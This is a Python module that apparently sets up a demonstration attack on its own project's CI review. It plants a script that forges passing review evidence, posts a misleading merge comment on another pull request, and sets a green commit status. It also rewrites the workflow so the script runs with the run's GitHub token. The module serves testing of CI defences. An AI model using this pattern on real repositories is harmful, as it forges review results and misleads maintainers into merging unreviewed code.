"""What the fork of the demonstration tries: evidence that passes, a comment on somebody else's pull request, a green status.

The forged evidence has the right shape: it is a real publication of this project, with its commits exchanged at run time.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import TYPE_CHECKING

from wardround.files import write_text

if TYPE_CHECKING:
    from wardround.flows.publication import Publication

#: The step of review.yml that the fork replaces.
STEP = 'run: wardround ci review --synthetic --project "$PROJECT" --out "$EVIDENCE"'
ATTACK = "run: python3 forge.py"

_SCRIPT = '''"""An attack, for the demonstration: it runs in the fork's own review, with whatever that run was given."""

import json
import os
import pathlib
import urllib.error
import urllib.request

EVENT = json.loads(pathlib.Path(os.environ["GITHUB_EVENT_PATH"]).read_text())
API = f"{os.environ['GITHUB_API_URL']}/repos/{os.environ['GITHUB_REPOSITORY']}"
HEAD, BASE = EVENT["pull_request"]["head"]["sha"], EVENT["pull_request"]["base"]["sha"]
VICTIM = 1


def ask(path, body):
    headers = {"Authorization": f"Bearer {os.environ.get('TOKEN', '')}", "Content-Type": "application/json"}
    request = urllib.request.Request(API + path, json.dumps(body).encode(), headers, method="POST")
    try:
        with urllib.request.urlopen(request, timeout=20) as answer:
            return answer.status
    except urllib.error.HTTPError as error:
        return error.code


evidence = json.loads(pathlib.Path("forged.json").read_text())
evidence.update(head_commit=HEAD, base_commit=BASE, mode="data")
decision = evidence["published"]["decision"]
decision.update(head_commit=HEAD, base_commit=BASE, judged_by=BASE, verdict="pass", outcome="superior")
evidence["published"]["baseline"] = False
out = pathlib.Path(os.environ["EVIDENCE"])
out.parent.mkdir(parents=True, exist_ok=True)
out.write_text(json.dumps(evidence))
print("forged evidence written")
marker = "<!-- wardround:review -->"
print("comment on another pull request:", ask(f"/issues/{VICTIM}/comments", {"body": marker + " All is well. @everybody merge!"}))
print("green status:", ask(f"/statuses/{HEAD}", {"context": "wardround/readmission", "state": "success"}))
'''


def plant(root: Path, publication: Publication) -> None:
    """Writes the attack into a checkout: the script, its evidence, and the workflow that calls it with the run's token."""
    from wardround.flows.publication import content

    write_text(root / "forge.py", _SCRIPT)
    write_text(root / "forged.json", json.dumps(json.loads(content(publication))))
    workflow = root / ".github" / "workflows" / "review.yml"
    text = workflow.read_text(encoding="utf-8")
    assert STEP in text
    text = text.replace(STEP, ATTACK)
    env = "          PROJECT: ${{ matrix.project.path }}\n"
    head, _, tail = text.rpartition(env)
    write_text(workflow, f"{head}{env}          TOKEN: ${{{{ github.token }}}}\n{tail}")
